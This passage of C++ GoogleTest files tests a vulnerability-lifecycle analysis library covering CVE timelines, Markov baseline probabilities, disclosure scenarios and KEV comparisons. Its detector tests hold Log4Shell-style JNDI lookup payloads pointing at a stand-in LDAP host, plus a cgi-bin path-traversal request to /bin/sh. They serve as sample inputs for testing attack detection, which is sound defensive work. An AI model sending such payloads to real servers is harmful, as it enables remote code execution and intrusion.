      {"a", TimePoint(1 * kDay)},  // bin [0,5): a unmitigated
      {"a", TimePoint(2 * kDay)},  // same CVE, same bin: counted once
      {"b", TimePoint(1 * kDay)},  // bin [0,5): b mitigated
      {"a", TimePoint(8 * kDay)},  // bin [5,10): a mitigated
  };
  const CveBinSeries series = cves_per_bin(events, tls, 5.0, 0.0, 10.0);
  ASSERT_EQ(series.bin_start_days.size(), 2u);
  EXPECT_EQ(series.without_rule[0], 1u);
  EXPECT_EQ(series.with_rule[0], 1u);
  EXPECT_EQ(series.with_rule[1], 1u);
  EXPECT_EQ(series.without_rule[1], 0u);
}

TEST(CvesPerBin, RejectsBadRange) {
  EXPECT_THROW(cves_per_bin({}, {}, 5.0, 10.0, 0.0), std::invalid_argument);
  EXPECT_THROW(cves_per_bin({}, {}, 0.0, 0.0, 10.0), std::invalid_argument);
}

}  // namespace
}  // namespace cvewb::lifecycle
