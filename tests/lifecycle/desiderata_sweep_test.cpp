// Parameterized sweeps over all nine studied desiderata: invariants that
// must hold for each row of Table 4 regardless of the data.
#include <gtest/gtest.h>

#include "lifecycle/markov.h"
#include "lifecycle/scenario.h"
#include "lifecycle/windows.h"

namespace cvewb::lifecycle {
namespace {

class DesideratumSweep : public ::testing::TestWithParam<std::size_t> {
 protected:
  const Desideratum& desideratum() const { return studied_desiderata()[GetParam()]; }
  static const std::vector<Timeline>& timelines() {
    static const std::vector<Timeline> all = study_timelines();
    return all;
  }
};

TEST_P(DesideratumSweep, AccountingPartitionsThePopulation) {
  const Satisfaction sat = evaluate(desideratum(), timelines());
  EXPECT_EQ(sat.evaluated + sat.unknown, timelines().size());
  EXPECT_LE(sat.satisfied, sat.evaluated);
  EXPECT_GE(sat.rate(), 0.0);
  EXPECT_LE(sat.rate(), 1.0);
}

TEST_P(DesideratumSweep, WindowMassAgreesWithSatisfaction) {
  // The ECDF mass at/right of zero must equal the discrete satisfaction
  // rate -- the two views of the same data (Fig. 5 vs Table 4).
  const auto& d = desideratum();
  const Satisfaction sat = evaluate(d, timelines());
  const stats::Ecdf windows = window_ecdf(d.before, d.after, timelines());
  ASSERT_EQ(windows.size(), sat.evaluated);
  EXPECT_NEAR(1.0 - windows.at(-1e-9), sat.rate(), 1e-12);
}

TEST_P(DesideratumSweep, BaselineReproducedByMarkovModel) {
  const auto& d = desideratum();
  const auto probs = pair_probabilities(cert_model());
  EXPECT_NEAR(probs[index_of(d.before)][index_of(d.after)], d.cert_baseline, 0.005)
      << d.label();
}

TEST_P(DesideratumSweep, SkillIsMonotoneInObservedRate) {
  const auto& d = desideratum();
  double prev = -1e9;  // skill(0, b) = -b/(1-b) is unboundedly negative as b -> 1
  for (double rate = 0.0; rate <= 1.0; rate += 0.1) {
    const double s = skill(rate, d.cert_baseline);
    EXPECT_GT(s, prev);
    prev = s;
  }
  EXPECT_DOUBLE_EQ(skill(1.0, d.cert_baseline), 1.0);
  EXPECT_DOUBLE_EQ(skill(d.cert_baseline, d.cert_baseline), 0.0);
}

TEST_P(DesideratumSweep, ShiftingBeforeEventEarlierNeverHurts) {
  const auto& d = desideratum();
  const stats::Ecdf windows = window_ecdf(d.before, d.after, timelines());
  if (windows.empty()) GTEST_SKIP();
  const double base = shifted_satisfaction(windows, 0.0);
  for (double shift : {1.0, 7.0, 30.0, 365.0}) {
    EXPECT_GE(shifted_satisfaction(windows, shift), base) << d.label() << " shift " << shift;
  }
}

TEST_P(DesideratumSweep, DelayedDeploymentNeverImprovesDRows) {
  const auto& d = desideratum();
  if (d.before != Event::kFixDeployed) GTEST_SKIP();
  const auto delayed = delayed_deployment_scenario(timelines(), 30.0);
  const double base = evaluate(d, timelines()).rate();
  const double slow = evaluate(d, delayed).rate();
  EXPECT_LE(slow, base + 1e-12) << d.label();
}

INSTANTIATE_TEST_SUITE_P(AllNine, DesideratumSweep, ::testing::Range<std::size_t>(0, 9),
                         [](const auto& info) {
                           const auto& d = studied_desiderata()[info.param];
                           std::string name = d.label();
                           for (char& c : name) {
                             if (c == ' ') c = '_';
                             if (c == '<') c = 'b';
                           }
                           return name;
                         });

}  // namespace
}  // namespace cvewb::lifecycle
