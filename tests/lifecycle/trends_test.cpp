#include "lifecycle/trends.h"

#include <gtest/gtest.h>

#include "data/appendix_e.h"

namespace cvewb::lifecycle {
namespace {

const Desideratum kPBeforeA{Event::kPublicAwareness, Event::kAttacks, 0.667};

TEST(Trends, BucketsPartitionTheStudy) {
  util::Rng rng(1);
  const auto trend = skill_trend(study_timelines(), kPBeforeA, data::study_begin(),
                                 data::study_end(), 182.5, rng, 100);
  ASSERT_EQ(trend.size(), 4u);  // two years / half-year buckets
  std::size_t total = 0;
  for (const auto& point : trend) {
    EXPECT_LE(point.period_start, point.period_end);
    total += point.cves;
  }
  // Every studied CVE with both P and A lands in exactly one bucket.
  std::size_t expected = 0;
  for (const auto& tl : study_timelines()) {
    expected += tl.precedes(Event::kPublicAwareness, Event::kAttacks).has_value() ? 1 : 0;
  }
  EXPECT_EQ(total, expected);
}

TEST(Trends, RatesAreProbabilitiesWithSaneCis) {
  util::Rng rng(2);
  const auto trend = skill_trend(study_timelines(), kPBeforeA, data::study_begin(),
                                 data::study_end(), 365.0, rng, 200);
  for (const auto& point : trend) {
    if (point.cves == 0) continue;
    EXPECT_GE(point.satisfied, 0.0);
    EXPECT_LE(point.satisfied, 1.0);
    EXPECT_LE(point.satisfied_ci.lo, point.satisfied);
    EXPECT_GE(point.satisfied_ci.hi, point.satisfied);
  }
}

TEST(Trends, SlopeOfFlatSeriesIsZero) {
  std::vector<TrendPoint> flat(3);
  for (int i = 0; i < 3; ++i) {
    flat[static_cast<std::size_t>(i)].period_start =
        util::TimePoint(i * 365 * 86400LL);
    flat[static_cast<std::size_t>(i)].period_end =
        util::TimePoint((i + 1) * 365 * 86400LL);
    flat[static_cast<std::size_t>(i)].cves = 10;
    flat[static_cast<std::size_t>(i)].satisfied = 0.8;
  }
  EXPECT_NEAR(trend_slope_per_year(flat), 0.0, 1e-9);
}

TEST(Trends, SlopeDetectsLinearImprovement) {
  std::vector<TrendPoint> rising(3);
  for (int i = 0; i < 3; ++i) {
    rising[static_cast<std::size_t>(i)].period_start =
        util::TimePoint(i * 365 * 86400LL);
    rising[static_cast<std::size_t>(i)].period_end =
        util::TimePoint((i + 1) * 365 * 86400LL);
    rising[static_cast<std::size_t>(i)].cves = 10;
    rising[static_cast<std::size_t>(i)].satisfied = 0.5 + 0.1 * i;
  }
  EXPECT_NEAR(trend_slope_per_year(rising), 0.1, 1e-3);
}

TEST(Trends, EmptyAndDegenerateInputs) {
  EXPECT_DOUBLE_EQ(trend_slope_per_year({}), 0.0);
  std::vector<TrendPoint> one(1);
  one[0].cves = 5;
  one[0].satisfied = 0.7;
  EXPECT_DOUBLE_EQ(trend_slope_per_year(one), 0.0);
}

}  // namespace
}  // namespace cvewb::lifecycle
