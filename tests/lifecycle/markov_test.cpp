#include "lifecycle/markov.h"

#include <gtest/gtest.h>

#include "lifecycle/desiderata.h"

namespace cvewb::lifecycle {
namespace {

double pair_prob(const PairProbabilities& probs, Event a, Event b) {
  return probs[index_of(a)][index_of(b)];
}

TEST(CertModel, ReproducesEveryPublishedBaseline) {
  // The load-bearing result: the uniform-transition Markov process with
  // F<-V, D<-F preconditions and X=>P=>V causal propagation yields exactly
  // the baseline frequencies Householder & Spring published (and that the
  // paper copies into Table 4).
  const PairProbabilities probs = pair_probabilities(cert_model());
  EXPECT_NEAR(pair_prob(probs, Event::kVendorAwareness, Event::kAttacks), 0.75, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kFixReady, Event::kPublicAwareness), 1.0 / 9, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kFixReady, Event::kExploitPublic), 1.0 / 3, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kFixReady, Event::kAttacks), 3.0 / 8, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kFixDeployed, Event::kPublicAwareness), 1.0 / 27, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kFixDeployed, Event::kExploitPublic), 1.0 / 6, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kFixDeployed, Event::kAttacks), 3.0 / 16, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kPublicAwareness, Event::kAttacks), 2.0 / 3, 1e-9);
  EXPECT_NEAR(pair_prob(probs, Event::kExploitPublic, Event::kAttacks), 0.5, 1e-9);
}

TEST(CertModel, BaselinesMatchStudiedDesiderataConstants) {
  const PairProbabilities probs = pair_probabilities(cert_model());
  for (const auto& d : studied_desiderata()) {
    EXPECT_NEAR(pair_prob(probs, d.before, d.after), d.cert_baseline, 0.005) << d.label();
  }
}

TEST(CertModel, PairProbabilitiesAreComplementary) {
  const PairProbabilities probs = pair_probabilities(cert_model());
  for (Event a : kAllEvents) {
    for (Event b : kAllEvents) {
      if (a == b) continue;
      // Ties are impossible in a sequential process: P(a<b) + P(b<a) = 1.
      EXPECT_NEAR(pair_prob(probs, a, b) + pair_prob(probs, b, a), 1.0, 1e-9);
    }
  }
}

TEST(UnconstrainedModel, EverythingIsACoinFlip) {
  const PairProbabilities probs = pair_probabilities(unconstrained_model());
  for (Event a : kAllEvents) {
    for (Event b : kAllEvents) {
      if (a == b) continue;
      EXPECT_NEAR(pair_prob(probs, a, b), 0.5, 1e-9);
    }
  }
}

TEST(ValidHistories, CountsMatchConstraintStructure) {
  EXPECT_EQ(count_valid_histories(unconstrained_model()), 720);
  // V<F<D + X<P... propagation X=>P means P must not precede... the
  // extension reading is "cause before effect": X before P, P before V is
  // forbidden, i.e. V<=P<=X ordering constraints plus V<F<D.
  const int cert_histories = count_valid_histories(cert_model());
  EXPECT_GT(cert_histories, 0);
  EXPECT_LT(cert_histories, 720);
}

TEST(ExtensionModel, UniformOverValidHistoriesDiffersFromMarkov) {
  // The Markov process weights histories non-uniformly: branch-heavy
  // prefixes get less mass.  Verify the two backends disagree somewhere
  // (this is why naive permutation counting cannot reproduce the paper).
  const PairProbabilities markov = pair_probabilities(cert_model());
  const PairProbabilities ext = extension_probabilities(cert_model());
  bool differs = false;
  for (Event a : kAllEvents) {
    for (Event b : kAllEvents) {
      if (std::abs(pair_prob(markov, a, b) - pair_prob(ext, a, b)) > 0.01) differs = true;
    }
  }
  EXPECT_TRUE(differs);
}

TEST(SampleHistory, CompleteAndCausallyValid) {
  util::Rng rng(21);
  for (int i = 0; i < 500; ++i) {
    const auto order = sample_history(cert_model(), rng);
    ASSERT_EQ(order.size(), kEventCount);
    std::array<std::size_t, kEventCount> pos{};
    for (std::size_t j = 0; j < order.size(); ++j) pos[index_of(order[j])] = j;
    EXPECT_LT(pos[index_of(Event::kVendorAwareness)], pos[index_of(Event::kFixReady)]);
    EXPECT_LT(pos[index_of(Event::kFixReady)], pos[index_of(Event::kFixDeployed)]);
    // Causal propagation: when the effect has not yet occurred, it fires
    // immediately after its cause -- so P is never later than X+1 and V is
    // never later than P+1 in the sequence.
    EXPECT_LE(pos[index_of(Event::kPublicAwareness)], pos[index_of(Event::kExploitPublic)] + 1);
    EXPECT_LE(pos[index_of(Event::kVendorAwareness)], pos[index_of(Event::kPublicAwareness)] + 1);
  }
}

TEST(MonteCarloBackend, AgreesWithExactDp) {
  util::Rng rng(33);
  const PairProbabilities exact = pair_probabilities(cert_model());
  const PairProbabilities sampled = sample_probabilities(cert_model(), rng, 200000);
  for (Event a : kAllEvents) {
    for (Event b : kAllEvents) {
      if (a == b) continue;
      EXPECT_NEAR(pair_prob(sampled, a, b), pair_prob(exact, a, b), 0.01);
    }
  }
}

TEST(DeadlockedModel, YieldsNoMass) {
  OrderingModel cyclic;
  cyclic.preconditions[index_of(Event::kVendorAwareness)] = event_bit(Event::kFixReady);
  cyclic.preconditions[index_of(Event::kFixReady)] = event_bit(Event::kVendorAwareness);
  const PairProbabilities probs = pair_probabilities(cyclic);
  double total = 0;
  for (const auto& row : probs) {
    for (double cell : row) total += cell;
  }
  EXPECT_DOUBLE_EQ(total, 0.0);
}

}  // namespace
}  // namespace cvewb::lifecycle
