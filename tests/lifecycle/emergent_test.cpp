#include "lifecycle/emergent.h"

#include <gtest/gtest.h>

#include "net/http.h"

namespace cvewb::lifecycle {
namespace {

using util::Duration;
using util::TimePoint;

net::TcpSession make_session(TimePoint t, std::uint32_t src, const std::string& payload) {
  net::TcpSession s;
  s.open_time = t;
  s.src = net::IPv4(src);
  s.payload = payload;
  return s;
}

std::string jndi_request(int host_octet, int param) {
  net::HttpRequest req;
  req.uri = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113." + std::to_string(host_octet) + "%2Fa" +
            std::to_string(param) + "%7D";
  req.add_header("Host", "10.0.0." + std::to_string(host_octet));
  return req.serialize();
}

TEST(Fingerprint, StableAcrossCampaignVolatileParts) {
  // Different exfil hosts and parameter values, same campaign shape.
  const auto a = payload_fingerprint(make_session(TimePoint(0), 1, jndi_request(5, 111)));
  const auto b = payload_fingerprint(make_session(TimePoint(0), 2, jndi_request(99, 42)));
  EXPECT_EQ(a, b);
}

TEST(Fingerprint, DistinguishesDifferentShapes) {
  const auto jndi = payload_fingerprint(make_session(TimePoint(0), 1, jndi_request(5, 1)));
  const auto traversal = payload_fingerprint(
      make_session(TimePoint(0), 1, "GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\n"));
  const auto raw = payload_fingerprint(make_session(TimePoint(0), 1, "\x01\x02\x03probe"));
  EXPECT_NE(jndi, traversal);
  EXPECT_NE(jndi, raw);
  EXPECT_TRUE(raw.rfind("raw:", 0) == 0);
  EXPECT_EQ(payload_fingerprint(make_session(TimePoint(0), 1, "")), "<empty>");
}

TEST(Detector, AlertsOnOutbreakWithSourceDiversity) {
  EmergentDetectorConfig config;
  config.min_sessions = 5;
  config.min_sources = 3;
  EmergentDetector detector(config);
  const EmergentAlert* alert = nullptr;
  for (int i = 0; i < 5; ++i) {
    alert = detector.observe(
        make_session(TimePoint(i * 3600), 100 + static_cast<std::uint32_t>(i % 3),
                     jndi_request(5, i)));
  }
  ASSERT_NE(alert, nullptr);
  EXPECT_EQ(alert->sessions, 5u);
  EXPECT_EQ(alert->distinct_sources, 3u);
  EXPECT_EQ(alert->detection_latency().total_seconds(), 4 * 3600);
  // No second alert for the same fingerprint.
  EXPECT_EQ(detector.observe(make_session(TimePoint(90000), 200, jndi_request(1, 9))), nullptr);
  EXPECT_EQ(detector.alerts().size(), 1u);
}

TEST(Detector, SingleSourceFloodDoesNotAlert) {
  EmergentDetectorConfig config;
  config.min_sessions = 5;
  config.min_sources = 3;
  EmergentDetector detector(config);
  for (int i = 0; i < 50; ++i) {
    EXPECT_EQ(detector.observe(make_session(TimePoint(i * 60), 7, jndi_request(5, i))), nullptr);
  }
}

TEST(Detector, SlowBurnPatternExpiresWithoutAlert) {
  EmergentDetectorConfig config;
  config.min_sessions = 4;
  config.min_sources = 2;
  config.window = Duration::days(7);
  EmergentDetector detector(config);
  // Three sessions inside the window, the threshold-crossing one far
  // outside: ambient, not an outbreak.
  detector.observe(make_session(TimePoint(0), 1, jndi_request(5, 1)));
  detector.observe(make_session(TimePoint(86400), 2, jndi_request(5, 2)));
  detector.observe(make_session(TimePoint(2 * 86400), 3, jndi_request(5, 3)));
  EXPECT_EQ(detector.observe(
                make_session(TimePoint(30 * 86400), 4, jndi_request(5, 4))),
            nullptr);
  // Even heavy later traffic cannot resurrect an expired cluster.
  for (int i = 0; i < 20; ++i) {
    EXPECT_EQ(detector.observe(make_session(TimePoint((31 + i) * 86400),
                                            10 + static_cast<std::uint32_t>(i),
                                            jndi_request(5, i))),
              nullptr);
  }
  EXPECT_TRUE(detector.alerts().empty());
}

TEST(Detector, IndependentClustersAlertIndependently) {
  EmergentDetectorConfig config;
  config.min_sessions = 3;
  config.min_sources = 2;
  EmergentDetector detector(config);
  for (int i = 0; i < 3; ++i) {
    detector.observe(make_session(TimePoint(i), 1 + static_cast<std::uint32_t>(i),
                                  jndi_request(5, i)));
    detector.observe(
        make_session(TimePoint(i), 50 + static_cast<std::uint32_t>(i),
                     "GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\nHost: x\r\n\r\n"));
  }
  EXPECT_EQ(detector.alerts().size(), 2u);
}

}  // namespace
}  // namespace cvewb::lifecycle
