#include "lifecycle/desiderata.h"

#include <gtest/gtest.h>

namespace cvewb::lifecycle {
namespace {

using util::TimePoint;

TEST(Matrices, CertRequirementsAreVendorFixChain) {
  const auto& m = cert_matrix();
  EXPECT_EQ(m[index_of(Event::kVendorAwareness)][index_of(Event::kFixReady)],
            Ordering::kRequired);
  EXPECT_EQ(m[index_of(Event::kVendorAwareness)][index_of(Event::kFixDeployed)],
            Ordering::kRequired);
  EXPECT_EQ(m[index_of(Event::kFixReady)][index_of(Event::kFixDeployed)], Ordering::kRequired);
  // V < P is only desired under CERT's model.
  EXPECT_EQ(m[index_of(Event::kVendorAwareness)][index_of(Event::kPublicAwareness)],
            Ordering::kDesired);
  // Top-right corner: V < A desirable (the Table 3 caption's example).
  EXPECT_EQ(m[index_of(Event::kVendorAwareness)][index_of(Event::kAttacks)], Ordering::kDesired);
}

TEST(Matrices, ThisWorkAddsCollectionImpliedRequirements) {
  const auto& m = this_work_matrix();
  // Public knowledge implies vendor knowledge; exploit implies public.
  EXPECT_EQ(m[index_of(Event::kVendorAwareness)][index_of(Event::kPublicAwareness)],
            Ordering::kRequired);
  EXPECT_EQ(m[index_of(Event::kVendorAwareness)][index_of(Event::kExploitPublic)],
            Ordering::kRequired);
  EXPECT_EQ(m[index_of(Event::kPublicAwareness)][index_of(Event::kExploitPublic)],
            Ordering::kRequired);
  // And the reverse direction cells become '-' rather than 'u'.
  EXPECT_EQ(m[index_of(Event::kPublicAwareness)][index_of(Event::kVendorAwareness)],
            Ordering::kNone);
}

TEST(Matrices, DiagonalIsNone) {
  for (std::size_t i = 0; i < kEventCount; ++i) {
    EXPECT_EQ(cert_matrix()[i][i], Ordering::kNone);
    EXPECT_EQ(this_work_matrix()[i][i], Ordering::kNone);
  }
}

TEST(Matrices, AttackRowIsAllUndesired) {
  // Nothing should come after attacks begin.
  for (std::size_t c = 0; c < kEventCount - 1; ++c) {
    EXPECT_EQ(cert_matrix()[index_of(Event::kAttacks)][c], Ordering::kUndesired);
    EXPECT_EQ(this_work_matrix()[index_of(Event::kAttacks)][c], Ordering::kUndesired);
  }
}

TEST(StudiedDesiderata, NineWithPublishedBaselines) {
  const auto& list = studied_desiderata();
  ASSERT_EQ(list.size(), 9u);
  EXPECT_EQ(list.front().label(), "V < A");
  EXPECT_DOUBLE_EQ(list.front().cert_baseline, 0.75);
  EXPECT_EQ(list.back().label(), "X < A");
  EXPECT_DOUBLE_EQ(list.back().cert_baseline, 0.50);
}

TEST(Evaluate, CountsSatisfactionAndUnknowns) {
  Timeline satisfied("a");
  satisfied.set(Event::kFixDeployed, TimePoint(0));
  satisfied.set(Event::kAttacks, TimePoint(10));
  Timeline violated("b");
  violated.set(Event::kFixDeployed, TimePoint(10));
  violated.set(Event::kAttacks, TimePoint(0));
  Timeline unknown("c");
  unknown.set(Event::kAttacks, TimePoint(5));

  const Desideratum d{Event::kFixDeployed, Event::kAttacks, 0.19};
  const Satisfaction sat = evaluate(d, {satisfied, violated, unknown});
  EXPECT_EQ(sat.satisfied, 1u);
  EXPECT_EQ(sat.evaluated, 2u);
  EXPECT_EQ(sat.unknown, 1u);
  EXPECT_DOUBLE_EQ(sat.rate(), 0.5);
}

TEST(Evaluate, EmptyPopulation) {
  const Desideratum d{Event::kFixDeployed, Event::kAttacks, 0.19};
  EXPECT_DOUBLE_EQ(evaluate(d, {}).rate(), 0.0);
}

TEST(EvaluateWeighted, WeightsScaleContribution) {
  Timeline satisfied("a");
  satisfied.set(Event::kFixDeployed, TimePoint(0));
  satisfied.set(Event::kAttacks, TimePoint(10));
  Timeline violated("b");
  violated.set(Event::kFixDeployed, TimePoint(10));
  violated.set(Event::kAttacks, TimePoint(0));

  const Desideratum d{Event::kFixDeployed, Event::kAttacks, 0.19};
  const auto weighted = evaluate_weighted(d, {satisfied, violated}, {95.0, 5.0});
  EXPECT_DOUBLE_EQ(weighted.rate(), 0.95);
  EXPECT_THROW(evaluate_weighted(d, {satisfied}, {1.0, 2.0}), std::invalid_argument);
}

}  // namespace
}  // namespace cvewb::lifecycle
