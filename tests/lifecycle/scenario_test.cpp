#include "lifecycle/scenario.h"

#include <gtest/gtest.h>

namespace cvewb::lifecycle {
namespace {

const Desideratum kDBeforeA{Event::kFixDeployed, Event::kAttacks, 0.187};

TEST(IdsInDisclosure, MovesOnlyEligibleDeployments) {
  const auto baseline = study_timelines();
  const auto scenario = ids_in_disclosure_scenario(baseline, 30.0);
  ASSERT_EQ(scenario.size(), baseline.size());
  for (std::size_t i = 0; i < baseline.size(); ++i) {
    const auto p = baseline[i].at(Event::kPublicAwareness);
    const auto d_before = baseline[i].at(Event::kFixDeployed);
    const auto d_after = scenario[i].at(Event::kFixDeployed);
    ASSERT_EQ(d_before.has_value(), d_after.has_value());
    if (!d_before) continue;
    const double days = (*d_before - *p).total_days();
    if (days > 0 && days <= 30.0) {
      EXPECT_EQ(*d_after, *p) << baseline[i].cve_id();
    } else {
      EXPECT_EQ(*d_after, *d_before) << baseline[i].cve_id();
    }
  }
}

TEST(IdsInDisclosure, Finding7Improvement) {
  // D < A satisfaction rises from ~0.56 to ~0.65 and skill improves by
  // roughly a third when IDS vendors join coordinated disclosure.
  const auto baseline = study_timelines();
  const auto scenario = ids_in_disclosure_scenario(baseline, 30.0);
  const ScenarioImpact impact = compare_scenario(baseline, scenario, kDBeforeA);
  EXPECT_NEAR(impact.before.satisfied, 0.56, 0.04);
  EXPECT_NEAR(impact.after.satisfied, 0.65, 0.05);
  EXPECT_GT(impact.skill_improvement(), 0.15);
  EXPECT_LT(impact.skill_improvement(), 0.60);
}

TEST(IdsInDisclosure, FixReadyNeverAfterDeployment) {
  const auto scenario = ids_in_disclosure_scenario(study_timelines(), 30.0);
  for (const auto& tl : scenario) {
    const auto f = tl.at(Event::kFixReady);
    const auto d = tl.at(Event::kFixDeployed);
    if (f && d) {
      EXPECT_LE(*f, *d) << tl.cve_id();
    }
  }
}

TEST(DelayedDeployment, ThirtyDayDelayGutsProtection) {
  // §5 fn. 2: the registered-user 30-day rule delay "drastically reduces
  // the effectiveness of IDS".
  const auto baseline = study_timelines();
  const auto delayed = delayed_deployment_scenario(baseline, 30.0);
  const ScenarioImpact impact = compare_scenario(baseline, delayed, kDBeforeA);
  EXPECT_LT(impact.after.satisfied, impact.before.satisfied - 0.10);
}

TEST(DelayedDeployment, ShiftsEveryDeployedFix) {
  const auto baseline = study_timelines();
  const auto delayed = delayed_deployment_scenario(baseline, 7.0);
  for (std::size_t i = 0; i < baseline.size(); ++i) {
    const auto before = baseline[i].at(Event::kFixDeployed);
    const auto after = delayed[i].at(Event::kFixDeployed);
    if (before) {
      ASSERT_TRUE(after.has_value());
      EXPECT_DOUBLE_EQ((*after - *before).total_days(), 7.0);
    } else {
      EXPECT_FALSE(after.has_value());
    }
  }
}

TEST(ScenarioImpact, SkillImprovementGuardsZeroBaseline) {
  ScenarioImpact impact;
  impact.before.skill = 0.0;
  impact.after.skill = 0.5;
  EXPECT_DOUBLE_EQ(impact.skill_improvement(), 0.0);
}

}  // namespace
}  // namespace cvewb::lifecycle
