#include "lifecycle/kev_compare.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace cvewb::lifecycle {
namespace {

class KevCompareTest : public ::testing::Test {
 protected:
  data::KevCatalog catalog_ = data::synthesize_kev(7);
  std::vector<Timeline> timelines_ = study_timelines();
};

TEST_F(KevCompareTest, PrePublicationRateMatchesFinding16) {
  EXPECT_NEAR(kev_pre_publication_rate(catalog_), 0.18, 0.015);
}

TEST_F(KevCompareTest, AttackMinusPublicationCoversCatalog) {
  const auto days = kev_attack_minus_publication_days(catalog_);
  EXPECT_EQ(days.size(), catalog_.entries.size());
  // DSCOPE sees a higher rate of *very long* pre-publication exploitation
  // (Finding 16): its earliest lead exceeds KEV's typical one.
  double dscope_min = 0;
  for (const auto& tl : timelines_) {
    const auto d = tl.diff(Event::kPublicAwareness, Event::kAttacks);
    if (d) dscope_min = std::min(dscope_min, d->total_days());
  }
  EXPECT_LT(dscope_min, -300.0);
}

TEST_F(KevCompareTest, SharedDeltasCover44Cves) {
  const auto deltas = shared_deltas(catalog_, timelines_);
  EXPECT_EQ(deltas.size(), 44u);
}

TEST_F(KevCompareTest, Finding17Statistics) {
  const KevComparison cmp = compare_with_kev(catalog_, timelines_);
  EXPECT_EQ(cmp.studied_cves, 63u);
  EXPECT_EQ(cmp.shared, 44u);
  EXPECT_NEAR(cmp.shared_fraction(), 0.70, 0.01);
  EXPECT_EQ(cmp.dscope_first, 26u);
  EXPECT_NEAR(cmp.dscope_first_fraction(), 0.59, 0.01);
  EXPECT_EQ(cmp.dscope_first_30d, 22u);
  EXPECT_NEAR(cmp.dscope_first_30d_fraction(), 0.50, 0.01);
}

TEST_F(KevCompareTest, EmptyCatalogYieldsZeros) {
  const data::KevCatalog empty;
  EXPECT_DOUBLE_EQ(kev_pre_publication_rate(empty), 0.0);
  const KevComparison cmp = compare_with_kev(empty, timelines_);
  EXPECT_EQ(cmp.shared, 0u);
  EXPECT_DOUBLE_EQ(cmp.dscope_first_fraction(), 0.0);
}

TEST_F(KevCompareTest, DscopeSeesLowerPrePublicationRateThanKev) {
  // Finding 16: 10 % (DSCOPE) vs 18 % (KEV).
  std::size_t early = 0;
  std::size_t known = 0;
  for (const auto& tl : timelines_) {
    const auto pre = tl.precedes(Event::kAttacks, Event::kPublicAwareness);
    if (!pre) continue;
    ++known;
    early += *pre ? 1 : 0;
  }
  const double dscope_rate = static_cast<double>(early) / static_cast<double>(known);
  EXPECT_NEAR(dscope_rate, 0.10, 0.02);
  EXPECT_LT(dscope_rate, kev_pre_publication_rate(catalog_));
}

}  // namespace
}  // namespace cvewb::lifecycle
