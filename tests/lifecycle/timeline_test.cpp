#include "lifecycle/timeline.h"

#include <gtest/gtest.h>

#include "data/talos.h"

namespace cvewb::lifecycle {
namespace {

using data::find_cve;
using util::Duration;
using util::TimePoint;

TEST(Timeline, DiffAndPrecedes) {
  Timeline tl("CVE-TEST");
  tl.set(Event::kPublicAwareness, TimePoint(1000));
  tl.set(Event::kAttacks, TimePoint(4000));
  const auto d = tl.diff(Event::kPublicAwareness, Event::kAttacks);
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->total_seconds(), 3000);
  EXPECT_TRUE(*tl.precedes(Event::kPublicAwareness, Event::kAttacks));
  EXPECT_FALSE(*tl.precedes(Event::kAttacks, Event::kPublicAwareness));
}

TEST(Timeline, TiesCountAsSatisfied) {
  Timeline tl("CVE-TEST");
  tl.set(Event::kFixDeployed, TimePoint(10));
  tl.set(Event::kAttacks, TimePoint(10));
  EXPECT_TRUE(*tl.precedes(Event::kFixDeployed, Event::kAttacks));
}

TEST(Timeline, MissingEventsYieldNullopt) {
  Timeline tl("CVE-TEST");
  tl.set(Event::kPublicAwareness, TimePoint(0));
  EXPECT_FALSE(tl.precedes(Event::kPublicAwareness, Event::kAttacks).has_value());
  EXPECT_FALSE(tl.diff(Event::kFixReady, Event::kAttacks).has_value());
  EXPECT_EQ(tl.known_count(), 1u);
}

TEST(TimelineFromRecord, StandardHeuristics) {
  const auto* rec = find_cve("CVE-2021-44228");
  ASSERT_NE(rec, nullptr);
  const Timeline tl = timeline_from_record(*rec);
  EXPECT_EQ(tl.cve_id(), "CVE-2021-44228");
  EXPECT_EQ(*tl.at(Event::kPublicAwareness), rec->published);
  EXPECT_EQ(*tl.at(Event::kFixReady), *rec->fix_deployed());
  EXPECT_EQ(*tl.at(Event::kFixDeployed), *rec->fix_deployed());  // immediate deploy
  EXPECT_EQ(*tl.at(Event::kExploitPublic), *rec->exploit_public());
  EXPECT_EQ(*tl.at(Event::kAttacks), *rec->first_attack());
  // V = min(P, F): the rule shipped after publication, so V = P here.
  EXPECT_EQ(*tl.at(Event::kVendorAwareness), rec->published);
}

TEST(TimelineFromRecord, VendorAwarenessUsesEarlierRule) {
  const auto* rec = find_cve("CVE-2021-27561");  // rule 198 days before P
  ASSERT_NE(rec, nullptr);
  const Timeline tl = timeline_from_record(*rec);
  EXPECT_EQ(*tl.at(Event::kVendorAwareness), *rec->fix_deployed());
}

TEST(TimelineFromRecord, TalosDisclosurePullsVendorAwarenessEarlier) {
  const auto* rec = find_cve("CVE-2021-21799");
  ASSERT_NE(rec, nullptr);
  const Timeline with = timeline_from_record(*rec);
  EXPECT_EQ(*with.at(Event::kVendorAwareness), *data::talos_disclosure(rec->id));

  TimelineOptions no_talos;
  no_talos.use_talos_disclosures = false;
  const Timeline without = timeline_from_record(*rec, no_talos);
  EXPECT_GT(*without.at(Event::kVendorAwareness), *with.at(Event::kVendorAwareness));
}

TEST(TimelineFromRecord, DeploymentDelayShiftsOnlyD) {
  const auto* rec = find_cve("CVE-2021-44228");
  TimelineOptions options;
  options.deployment_delay = Duration::days(30);  // §5 fn. 2 ablation
  const Timeline tl = timeline_from_record(*rec, options);
  EXPECT_EQ(*tl.at(Event::kFixDeployed) - *tl.at(Event::kFixReady), Duration::days(30));
}

TEST(StudyTimelines, OnePerStudiedCve) {
  const auto timelines = study_timelines();
  EXPECT_EQ(timelines.size(), 63u);
  for (const auto& tl : timelines) {
    EXPECT_TRUE(tl.has(Event::kPublicAwareness));
    EXPECT_TRUE(tl.has(Event::kVendorAwareness));
  }
}

TEST(StudyTimelines, MissingDataStaysMissing) {
  const auto timelines = study_timelines();
